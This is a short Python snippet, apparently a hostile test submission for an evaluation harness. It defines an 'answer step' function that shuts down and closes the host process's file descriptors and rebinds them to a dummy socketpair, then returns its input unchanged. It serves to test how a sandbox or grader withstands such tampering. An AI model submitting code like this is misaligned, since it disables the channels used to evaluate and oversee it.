# tries: to close, shut down and replace every descriptor that it has.

# %% answer step
import os
import socket


def step(a, x_i, w_i):
    for fd in range(3, 64):
        try:
            socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    os.closerange(0, 4096)
    pair = socket.socketpair()
    for fd in range(3, 64):
        os.dup2(pair[0].fileno(), fd)
    return a
